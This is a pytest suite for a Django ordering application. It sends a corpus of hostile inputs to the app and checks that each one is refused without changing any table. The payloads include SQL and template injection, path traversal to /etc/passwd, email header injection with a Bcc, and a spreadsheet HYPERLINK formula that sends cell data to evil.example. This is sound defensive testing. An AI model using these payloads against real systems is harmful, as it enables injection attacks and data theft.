"""Hostile input corpus: every entry gets a clear refusal (4xx, or a form error on a 200/302
page), never a 500, and leaves every Orion table exactly as it was.

The table is ``CASES``: (id, target, hostile value). Targets are the order form (Save Order and
its htmx parts), the search bar, the DID search, the log-in page, the billing start date change,
and the API (Bearer token). Free text that is merely odd (``' OR 1=1 --`` as a company name) is
valid data; ``test_free_text_is_stored_verbatim_and_rendered_escaped`` covers it.

Issue 13 added control characters in every kind of page filter and API list, non-ASCII digits,
bidi and zero-width characters in names, token management with a bearer token, TRACE, the GET
links that used to create drafts, and hostile password-reset addresses. The throttling counters
(``core_throttlecounter``) and django-axes' log are not Orion data and are left out of the
snapshot: counting a failed attempt is their job.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta

import pytest
from django.apps import apps
from django.db import connection
from django.test import Client
from django.utils import timezone

from orion.numbers.services import numbers_add_range
from orion.orders import services as order_services
from tests import factories as f

pytestmark = pytest.mark.django_db

ORION_APPS = ("accounts", "catalog", "orders", "numbers", "provisioning", "audit", "billing",
              "api")
TEN_MB = "x" * (10 * 1024 * 1024)
SQL = "' OR 1=1 --"
TEMPLATE = "{{7*7}}"
DEBUG_TAG = "{% debug %}"
LOOKALIKE = "\u0430cme.com"  # Cyrillic a
CONTROL = "Acme\x1b[31m\x07"
NUL = "acme\x00.com"
TRAVERSAL = "../../../../etc/passwd"
LONG = "A" * 100_000
FAR_PAST, FAR_FUTURE = "0001-01-01", "9999-12-31"


@dataclass
class World:
    client: Client
    api: Client
    token: str
    draft_id: int
    line_id: int
    order_id: int
    enterprise_id: int = 0
    customer_id: int = 0


def _snapshot() -> dict[str, str]:
    """Row count and a hash of every row of every Orion table."""
    result = {}
    with connection.cursor() as cursor:
        for model in apps.get_models():
            if model._meta.app_label not in ORION_APPS:
                continue
            table = connection.ops.quote_name(model._meta.db_table)
            cursor.execute(f"SELECT count(*), md5(coalesce(string_agg(t::text, '|' ORDER BY "
                           f"t::text), '')) FROM {table} t")
            count, digest = cursor.fetchone()
            result[model._meta.db_table] = f"{count}:{digest}"
    return result


@pytest.fixture
def world(tenant_a, tenant_b) -> World:
    from orion.api.services import token_create

    numbers_add_range(spec="2125550100-2125550119")
    draft = f.draft_with_packages(user=tenant_a.user, enterprise=tenant_a.enterprise)
    placed = f.draft_with_packages(user=tenant_a.user, enterprise=tenant_a.enterprise)
    order = order_services.order_save(user=tenant_a.user, order_id=placed.pk,
                                      details=f.new_customer_details(domain="placed.example"))
    client = Client()
    client.force_login(tenant_a.user)
    token = token_create(user=tenant_a.user, name="hostile corpus").secret
    api = Client(HTTP_AUTHORIZATION=f"Bearer {token}")
    assert api.get("/api/v1/me").status_code == 200  # sets last_used_at before the snapshot
    return World(client, api, token, draft.pk, draft.lines.get().pk, order.order.pk,
                 tenant_a.enterprise.pk, tenant_a.customer.pk)


def _form(**overrides: str) -> dict[str, str]:
    data = {"billing_start_date": (timezone.localdate() + timedelta(days=3)).isoformat(),
            "company_name": "Hostile Co", "address_line1": "1 Main St", "city": "Boston",
            "state_code": "MA", "zip_code": "02108", "contact_name": "Sam Smith",
            "contact_phone": "6175550100", "contact_email": "sam@hostile.example",
            "domain": "hostile.example", "time_zone": "America/New_York",
            "service_type": "hosted", "notes": ""}
    data.update(overrides)
    return data


def _details(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = dict(_form())
    data.update(overrides)
    return data


# --- targets: each sends one hostile value and returns the response ------------------------

def save_order(field: str) -> Callable:
    return lambda w, v: w.client.post(f"/orders/{w.draft_id}/form/", _form(**{field: v}))


def quantity(w: World, v: str):
    return w.client.post(f"/orders/{w.draft_id}/form/lines/{w.line_id}/quantity/",
                         {"quantity": v})


def lines_add(w: World, v: str):
    return w.client.post(f"/orders/{w.draft_id}/form/lines/", {"order_type": v, "package": v})


def dids_backorder(w: World, v: str):
    return w.client.post(f"/orders/{w.draft_id}/form/dids/",
                         {"backorder_quantity": v, "npa": "212", "nxx": "555"})


def dids_numbers(w: World, v: str):
    return w.client.post(f"/orders/{w.draft_id}/form/dids/", {"number": v})


def did_remove(w: World, v: str):
    return w.client.post(f"/orders/{w.draft_id}/form/dids/remove/", {"did": v})


def did_search(field: str) -> Callable:
    def run(w: World, v: str):
        params = {"npa": "212", "nxx": "555", field: v}
        return w.client.get(f"/orders/{w.draft_id}/form/dids/search/", params)
    return run


def search(w: World, v: str):
    return w.client.get("/search/", {"q": v})


def login(field: str) -> Callable:
    def run(w: World, v: str):
        data = {"username": "nobody", "password": "wrong-password-123", field: v}
        return Client().post("/login/", data)
    return run


def billing_date(w: World, v: str):
    return w.client.post(f"/orders/{w.order_id}/billing-start-date/",
                         {"billing_start_date": v}, follow=True)


def raw_post(path: str) -> Callable:
    def run(w: World, v: str):
        return w.client.post(path.format(w=w), data=v, content_type="application/octet-stream")
    return run


def api_json(method: str, path: str) -> Callable:
    """Send ``v`` as the JSON body (a str is sent as is: broken JSON, duplicated keys)."""
    def run(w: World, v: object):
        body = v if isinstance(v, str) else json.dumps(v)
        send = getattr(w.api, method)
        return send(path.format(w=w), data=body, content_type="application/json")
    return run


def api_get(path: str) -> Callable:
    return lambda w, v: w.api.get(path.format(w=w, v=v))


def api_query(path: str, name: str) -> Callable:
    return lambda w, v: w.api.get(path.format(w=w), {name: v})


# --- issue 13: more targets ----------------------------------------------------------------

def page_filter(path: str, name: str) -> Callable:
    """A GET filter of a page (``path`` may name the draft or the order)."""
    return lambda w, v: w.client.get(path.format(w=w), {name: v})


def customer_page_filter(name: str) -> Callable:
    return lambda w, v: w.client.get(f"/customers/{w.customer_id}/billing/", {name: v})


def token_page(w: World, v: str):
    return w.client.post("/account/tokens/", {"name": v})


def api_token_create(w: World, v: object):
    """A bearer token trying to mint another (session only now): never a new token."""
    body = v if isinstance(v, dict) else {"name": v}
    return w.api.post("/api/v1/tokens", data=json.dumps(body, default=str),
                      content_type="application/json")


def api_token_revoke(w: World, v: str):
    from orion.api.models import ApiToken

    token = ApiToken.objects.get(name="hostile corpus")
    return w.api.delete(f"/api/v1/tokens/{token.pk}")


def api_token_list(w: World, v: str):
    return w.api.get("/api/v1/tokens", {"limit": v})


def method(name: str, path: str) -> Callable:
    return lambda w, v: w.client.generic(name, path.format(w=w), v)


def start_by_get(path: str) -> Callable:
    return lambda w, v: w.client.get(path.format(w=w), {"next": v})


def reset(w: World, v: str):
    return Client().post("/password-reset/", {"email": v})


def api_save(**fields: object) -> Callable:
    def run(w: World, v: object):
        body = _details(**{name: v for name in fields})
        return w.api.post(f"/api/v1/orders/{w.draft_id}/save", data=json.dumps(body),
                          content_type="application/json")
    return run


def form_name_fields(field: str) -> Callable:
    return save_order(field)


ARABIC_DIGITS = "\u0661\u0662\u0663\u0664\u0665"
WIDE_DIGITS = "\uff11\uff12\uff13\uff14\uff15"
RLO = "\u202eevil\u202c Corp"
ZWSP = "Ac\u200bme"
ZWJ = "Acme\u200d"
BOM = "\ufeffAcme"
SOFT_HYPHEN = "Ac\u00adme"
ISOLATE = "Acme\u2066 Corp\u2069"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


DUPLICATE_KEYS = ('{"billing_start_date": "2030-01-01", "billing_start_date": "0001-01-01"}')

CASES: list[tuple[str, Callable, object]] = [
    # Order form: Save Order
    ("form-domain-sql", save_order("domain"), SQL),
    ("form-domain-template", save_order("domain"), TEMPLATE + ".com"),
    ("form-domain-debug-tag", save_order("domain"), DEBUG_TAG),
    ("form-domain-lookalike", save_order("domain"), LOOKALIKE),
    ("form-domain-www", save_order("domain"), "www.acme.com"),
    ("form-domain-nul", save_order("domain"), NUL),
    ("form-domain-overlong", save_order("domain"), "a" * 300 + ".com"),
    ("form-domain-traversal", save_order("domain"), TRAVERSAL),
    ("form-tz-traversal", save_order("time_zone"), "../../../etc/localtime"),
    ("form-tz-template", save_order("time_zone"), TEMPLATE),
    ("form-tz-nul", save_order("time_zone"), "America/New_York\x00"),
    ("form-date-far-past", save_order("billing_start_date"), FAR_PAST),
    ("form-date-far-future", save_order("billing_start_date"), FAR_FUTURE),
    ("form-date-impossible", save_order("billing_start_date"), "2026-02-30"),
    ("form-date-sql", save_order("billing_start_date"), SQL),
    ("form-email-header-injection", save_order("contact_email"),
     "sam@x.example\r\nBcc: all@evil.example"),
    ("form-phone-sql", save_order("contact_phone"), "6175550100; DROP TABLE orders_order"),
    ("form-zip-nul", save_order("zip_code"), "\x00\x00\x00"),
    ("form-company-overlong", save_order("company_name"), LONG),
    ("form-company-control-chars", save_order("company_name"), CONTROL),
    ("form-notes-nul", save_order("notes"), "IP fax\x00"),
    ("form-state-sql", save_order("state_code"), "NY' --"),
    ("form-service-type-sql", save_order("service_type"), "hosted' OR '1'='1"),
    ("form-contact-template-debug", save_order("contact_email"), DEBUG_TAG),
    # Order form: quantities, packages, DIDs
    ("qty-negative", quantity, "-1"),
    ("qty-zero", quantity, "0"),
    ("qty-huge", quantity, "9" * 40),
    ("qty-exponent", quantity, "1e3"),
    ("qty-sql", quantity, SQL),
    ("lines-order-type-sql", lines_add, "1 OR 1=1"),
    ("lines-package-traversal", lines_add, "../../1"),
    ("backorder-negative", dids_backorder, "-5"),
    ("backorder-huge", dids_backorder, "9" * 30),
    ("backorder-nul", dids_backorder, "5\x00"),
    ("dids-number-sql", dids_numbers, "212555010' OR 1=1 --"),
    ("dids-number-template", dids_numbers, TEMPLATE),
    ("did-remove-traversal", did_remove, "../1"),
    ("did-remove-huge-id", did_remove, "9" * 40),
    # DID search
    ("did-search-npa-sql", did_search("npa"), SQL),
    ("did-search-npa-template", did_search("npa"), "2{{7*7}}"),
    ("did-search-nxx-nul", did_search("nxx"), "5\x0055"),
    ("did-search-npa-traversal", did_search("npa"), TRAVERSAL),
    ("did-search-page-huge", did_search("page"), "9" * 40),
    # Search bar (a search is answered, with no rows: nothing matches these)
    ("search-sql", search, SQL),
    ("search-template", search, TEMPLATE),
    ("search-debug-tag", search, DEBUG_TAG),
    ("search-like-wildcard", search, "%_%"),
    ("search-nul", search, "Acme\x00"),
    ("search-overlong", search, LONG),
    ("search-lookalike", search, "\u0410cme"),  # Cyrillic A
    # Log-in
    ("login-username-sql", login("username"), SQL),
    ("login-username-nul", login("username"), "agent\x00"),
    ("login-username-template", login("username"), TEMPLATE),
    ("login-password-overlong", login("password"), LONG),
    ("login-10mb-body", lambda w, v: Client().post("/login/", {"username": v}), TEN_MB),
    # Billing start date change (redirect back with a red message)
    ("billing-far-past", billing_date, FAR_PAST),
    ("billing-far-future", billing_date, FAR_FUTURE),
    ("billing-sql", billing_date, SQL),
    ("billing-impossible", billing_date, "2026-13-45"),
    ("billing-nul", billing_date, "2030-01-01\x00"),
    ("billing-10mb-body", raw_post("/orders/{w.order_id}/billing-start-date/"), TEN_MB),
    ("form-10mb-body", raw_post("/orders/{w.draft_id}/form/"), TEN_MB),
    # API
    ("api-10mb-json", api_json("post", "/api/v1/orders"), '{"kind": "' + TEN_MB + '"}'),
    ("api-broken-json", api_json("post", "/api/v1/orders"), '{"kind": '),
    ("api-json-array", api_json("post", "/api/v1/orders"), ["new_customer"]),
    ("api-wrong-type-kind", api_json("post", "/api/v1/orders"), {"kind": 123}),
    ("api-wrong-type-enterprise", api_json("post", "/api/v1/orders"),
     {"kind": "new_customer", "enterprise_id": "1 OR 1=1"}),
    ("api-negative-id", api_json("post", "/api/v1/orders"),
     {"kind": "new_customer", "enterprise_id": -1}),
    ("api-duplicate-keys", api_json("put", "/api/v1/orders/{w.order_id}/billing-start-date"),
     DUPLICATE_KEYS),
    ("api-billing-far-past", api_json("put", "/api/v1/orders/{w.order_id}/billing-start-date"),
     {"billing_start_date": FAR_PAST}),
    ("api-billing-far-future", api_json("put", "/api/v1/orders/{w.order_id}/billing-start-date"),
     {"billing_start_date": FAR_FUTURE}),
    ("api-billing-wrong-type", api_json("put", "/api/v1/orders/{w.order_id}/billing-start-date"),
     {"billing_start_date": 20300101}),
    ("api-quantity-negative", api_json("patch", "/api/v1/orders/{w.draft_id}/lines/{w.line_id}"),
     {"quantity": -5}),
    ("api-quantity-huge", api_json("patch", "/api/v1/orders/{w.draft_id}/lines/{w.line_id}"),
     {"quantity": 10**40}),
    ("api-quantity-string", api_json("patch", "/api/v1/orders/{w.draft_id}/lines/{w.line_id}"),
     {"quantity": "1; DROP TABLE orders_order"}),
    ("api-backorder-negative", api_json("post", "/api/v1/orders/{w.draft_id}/dids"),
     {"npa": "212", "backorder_quantity": -3}),
    ("api-save-lookalike-domain", api_json("post", "/api/v1/orders/{w.draft_id}/save"),
     _details(domain=LOOKALIKE)),
    ("api-save-template-tz", api_json("post", "/api/v1/orders/{w.draft_id}/save"),
     _details(time_zone=DEBUG_TAG)),
    ("api-save-nul-notes", api_json("post", "/api/v1/orders/{w.draft_id}/save"),
     _details(notes="porting\x00")),
    ("api-save-far-future", api_json("post", "/api/v1/orders/{w.draft_id}/save"),
     _details(billing_start_date=FAR_FUTURE)),
    ("api-save-overlong", api_json("post", "/api/v1/orders/{w.draft_id}/save"),
     _details(company_name=LONG)),
    ("api-order-id-traversal", api_get("/api/v1/orders/{v}"), "..%2F..%2Fetc%2Fpasswd"),
    ("api-order-id-huge", api_get("/api/v1/orders/{v}"), "9" * 40),
    ("api-order-id-negative", api_get("/api/v1/orders/{v}"), "-1"),
    ("api-search-nul", api_query("/api/v1/accounts/search", "q"), "Acme\x00"),
    ("api-search-overlong", api_query("/api/v1/accounts/search", "q"), LONG),
    ("api-npa-sql", api_query("/api/v1/numbers/available", "npa"), SQL),
    ("api-npa-template", api_query("/api/v1/numbers/available", "npa"), TEMPLATE),
    ("api-token-name-control", api_json("post", "/api/v1/tokens"), {"name": CONTROL}),
    # --- issue 13 -------------------------------------------------------------------------
    # Control characters in every kind of page filter (400 with a message; was a 500)
    ("filter-orders-q-nul", page_filter("/orders/", "q"), "\x00"),
    ("filter-orders-q-inner-nul", page_filter("/orders/", "q"), "a\x00b"),
    ("filter-orders-state-nul", page_filter("/orders/", "state"), "failed\x00"),
    ("filter-orders-kind-nul", page_filter("/orders/", "kind"), "\x00new_customer"),
    ("filter-orders-partner-nul", page_filter("/orders/", "partner"), "1\x00"),
    ("filter-orders-page-nul", page_filter("/orders/", "page"), "2\x00"),
    ("filter-orders-q-escape", page_filter("/orders/", "q"), "\x1b[2J"),
    ("filter-orders-q-del", page_filter("/orders/", "q"), "\x7f"),
    ("filter-search-page-nul", page_filter("/search/", "page"), "\x00"),
    ("filter-dashboard-nul", page_filter("/", "q"), "\x00"),
    ("filter-did-search-npa-nul", page_filter("/orders/{w.draft_id}/form/dids/search/", "npa"),
     "\x00"),
    ("filter-did-search-page-nul",
     page_filter("/orders/{w.draft_id}/form/dids/search/", "page"), "1\x00"),
    ("filter-package-picker-nul", page_filter("/orders/{w.draft_id}/form/packages/",
                                              "order_type"), "1\x00"),
    ("filter-numbers-q-nul", page_filter("/numbers/", "q"), "212\x00"),
    ("filter-numbers-npa-nul", page_filter("/numbers/", "npa"), "\x00"),
    ("filter-number-id-nul", page_filter("/numbers/number/", "id"), "1\x00"),
    ("filter-backorders-all-nul", page_filter("/numbers/backorders/", "all"), "1\x00"),
    ("filter-audit-actor-nul", page_filter("/audit/", "actor"), "ops\x00"),
    ("filter-audit-date-nul", page_filter("/audit/", "date_from"), "2026-01-01\x00"),
    ("filter-billing-export-month-nul", page_filter("/billing/export.csv", "month"),
     "2026-12\x00"),
    ("filter-billing-tab-month-nul", customer_page_filter("month"), "2026-12\x00"),
    ("filter-order-page-nul", page_filter("/orders/{w.order_id}/", "tab"), "\x00"),
    ("filter-login-next-nul", lambda w, v: Client().get("/login/", {"next": v}), "/\x00"),
    ("filter-tokens-page-nul", page_filter("/account/tokens/", "q"), "\x00"),
    ("filter-name-nul", lambda w, v: w.client.get("/orders/?" + v), "a%00b=1"),
    # ... and in every kind of API list (422)
    ("api-orders-q-nul", api_query("/api/v1/orders", "q"), "\x00"),
    ("api-orders-state-nul", api_query("/api/v1/orders", "state"), "failed\x00"),
    ("api-orders-limit-nul", api_query("/api/v1/orders", "limit"), "10\x00"),
    ("api-enterprises-nul", api_query("/api/v1/enterprises", "q"), "a\x00b"),
    ("api-numbers-npa-nul", api_query("/api/v1/numbers/available", "npa"), "212\x00"),
    ("api-numbers-nxx-nul", api_query("/api/v1/numbers/available", "nxx"), "\x00"),
    ("api-billing-month-nul", api_query("/api/v1/billing/export", "month"), "2026-12\x00"),
    ("api-search-escape", api_query("/api/v1/accounts/search", "q"), "\x1b[31m"),
    # Non-ASCII digits wherever a number is checked
    ("form-zip-arabic-digits", save_order("zip_code"), ARABIC_DIGITS),
    ("form-zip-wide-digits", save_order("zip_code"), WIDE_DIGITS),
    ("form-zip-plus4-arabic", save_order("zip_code"), "02108-\u0661\u0662\u0663\u0664"),
    ("form-phone-mixed-digits", save_order("contact_phone"), "2\u0661\u06625550111"),
    ("form-phone-wide-digits", save_order("contact_phone"), "\uff12\uff11\uff125550111"),
    ("form-phone-bengali-digit", save_order("contact_phone"), "2125550\u09ea11"),
    ("qty-arabic-digits", quantity, "\u0661\u0662"),
    ("qty-wide-digits", quantity, "\uff15"),
    ("qty-underscore", quantity, "1_0"),
    ("qty-superscript", quantity, "\u00b2"),
    ("backorder-arabic-digits", dids_backorder, "\u0663"),
    ("backorder-wide-digits", dids_backorder, "\uff13"),
    ("did-search-npa-arabic", did_search("npa"), "\u0662\u0661\u0662"),
    ("did-search-nxx-wide", did_search("nxx"), "\uff15\uff15\uff15"),
    ("dids-number-arabic", dids_numbers, "\u0662\u0661\u0662\u0665\u0665\u0665\u0660"
                                         "\u0661\u0660\u0660"),
    ("did-remove-arabic-id", did_remove, "\u0661"),
    ("lines-order-type-arabic", lines_add, "\u0661"),
    ("api-quantity-arabic", api_json("patch", "/api/v1/orders/{w.draft_id}/lines/{w.line_id}"),
     {"quantity": "\u0661\u0662"}),
    ("api-save-zip-arabic", api_save(zip_code=True), ARABIC_DIGITS),
    ("api-save-phone-wide", api_save(contact_phone=True), "\uff12\uff11\uff125550111"),
    ("api-billing-month-arabic", api_query("/api/v1/billing/export", "month"),
     "\u0662\u0660\u0662\u0666-\u0661\u0662"),
    ("api-npa-arabic", api_query("/api/v1/numbers/available", "npa"), "\u0662\u0661\u0662"),
    ("api-backorder-string-arabic", api_json("post", "/api/v1/orders/{w.draft_id}/dids"),
     {"npa": "212", "backorder_quantity": "\u0663"}),
    # Bidi controls and zero-width characters in names
    ("form-company-rlo", save_order("company_name"), RLO),
    ("form-company-zwsp", save_order("company_name"), ZWSP),
    ("form-company-isolate", save_order("company_name"), ISOLATE),
    ("form-contact-zwj", save_order("contact_name"), ZWJ),
    ("form-contact-bom", save_order("contact_name"), BOM),
    ("form-address-soft-hyphen", save_order("address_line1"), SOFT_HYPHEN),
    ("form-address2-rlo", save_order("address_line2"), RLO),
    ("form-city-zwsp", save_order("city"), "Bos\u200bton"),
    ("form-email-zwsp", save_order("contact_email"), "sam\u200b@hostile.example"),
    ("form-notes-rlo", save_order("notes"), "port \u202e0101\u202c"),
    ("form-company-newline", save_order("company_name"), "Acme\nCorp"),
    ("api-save-company-rlo", api_save(company_name=True), RLO),
    ("api-save-contact-zwsp", api_save(contact_name=True), ZWSP),
    ("api-save-city-isolate", api_save(city=True), ISOLATE),
    ("token-page-name-rlo", token_page, RLO),
    ("token-page-name-zwsp", token_page, "ci\u200btoken"),
    ("token-page-name-nul", token_page, "ci\x00"),
    # A bearer token cannot manage tokens (403): no token outlives its own expiry
    ("api-token-mint-forever", api_token_create, {"name": "forever"}),
    ("api-token-mint-ten-years", api_token_create,
     {"name": "long", "expires_at": "2035-01-01T00:00:00Z"}),
    ("api-token-name-rlo", api_token_create, RLO),
    ("api-token-revoke-by-token", api_token_revoke, ""),
    ("api-token-list-by-token", api_token_list, "10"),
    # Methods and GET links that changed state
    ("trace-dashboard", method("TRACE", "/"), ""),
    ("trace-order-form", method("TRACE", "/orders/{w.draft_id}/form/"), "x=1"),
    ("trace-api", method("TRACE", "/api/v1/me"), ""),
    ("track-login", method("TRACK", "/login/"), ""),
    ("get-starts-new-enterprise", start_by_get("/orders/new-enterprise/"), ""),
    ("get-starts-new-customer", start_by_get("/enterprises/{w.enterprise_id}/add-package-forms/"),
     ""),
    ("get-starts-add-services", start_by_get("/customers/{w.customer_id}/add-package-forms/"),
     ""),
    # Password reset with hostile addresses (a form error; nothing stored, nothing sent)
    ("reset-email-header-injection", reset, "sam@x.example\r\nBcc: all@evil.example"),
    ("reset-email-nul", reset, "sam\x00@x.example"),
    ("reset-email-overlong", reset, "a" * 300 + "@x.example"),
    ("reset-email-formula", reset, FORMULA),
    # Log-in with invisible or look-alike characters
    ("login-username-zwsp", login("username"), "ag\u200bent"),
    ("login-username-rlo", login("username"), "\u202eagent"),
    ("login-username-wide", login("username"), "\uff41gent"),
]

# Searches answer (with no rows, or the first page) rather than refuse: that is correct.
ANSWERED = {"did-search-page-huge"}
REFUSED_SEARCHES = {"search-nul"}  # was a 500 (PostgreSQL refuses NUL); now a 400

FORM_ERROR_MARKERS = ("alert-error", "errorlist", "class=\"error", "Please enter a correct",
                      "field-error", "invalid")


def _is_clear_refusal(response) -> bool:
    if 400 <= response.status_code < 500:
        return True
    if response.status_code == 200:
        body = response.content.decode(errors="replace")
        return any(marker in body for marker in FORM_ERROR_MARKERS)
    return False


@pytest.mark.parametrize("case_id,target,value", CASES, ids=[c[0] for c in CASES])
def test_hostile_input_is_refused_and_changes_nothing(world, case_id, target, value):
    before = _snapshot()
    response = target(world, value)
    assert response.status_code < 500
    body = response.content.decode(errors="replace")
    if case_id.startswith("search-") and case_id not in REFUSED_SEARCHES:
        assert response.status_code == 200 and "/customers/" not in body.split('<main id="main"')[1]
    elif case_id in ANSWERED:
        assert response.status_code == 200
    else:
        assert _is_clear_refusal(response), (response.status_code, body[:500])
    assert "Traceback" not in body
    after = _snapshot()
    changed = {k for k in before if before[k] != after[k]}
    assert not changed, f"tables changed: {sorted(changed)}"


def test_ten_megabyte_bodies_are_refused_before_they_are_read(world):
    response = world.client.post(f"/orders/{world.draft_id}/form/", data=TEN_MB,
                                 content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413


def test_free_text_is_stored_verbatim_and_rendered_escaped(world, tenant_a):
    """Odd free text is data, not an attack: stored as typed, never executed or evaluated."""
    text = f"{SQL} {TEMPLATE} {DEBUG_TAG} <script>alert(1)</script>"
    response = world.client.post(f"/orders/{world.draft_id}/form/", _form(
        notes=text, company_name="Brand {{7*7}} <b>Co</b>", domain="verbatim.example"))
    assert response.status_code == 302, response.content.decode()[:2000]
    from orion.orders.models import Order

    order = Order.objects.get(pk=world.draft_id)
    assert order.notes == text and order.company_name == "Brand {{7*7}} <b>Co</b>"
    page = world.client.get(f"/orders/{order.pk}/").content.decode()
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    assert "Brand {{7*7}}" in page and "Brand 49" not in page
    hits = world.client.get("/search/", {"q": "Brand {{7"}).content.decode()
    assert "Brand {{7*7}} &lt;b&gt;Co&lt;/b&gt;" in hits


def test_a_search_injection_never_shows_another_partners_rows(world, tenant_b):
    for q in (SQL, "' OR partner_id <> 0 --", "%", "_", "\\"):
        body = world.client.get("/search/", {"q": q}).content.decode()
        assert tenant_b.enterprise.name not in body


def test_snapshot_sees_a_change():
    """The guard of the corpus works: a real change shows up in the snapshot."""
    before = _snapshot()
    f.make_partner("Snapshot Check")
    assert _snapshot() != before
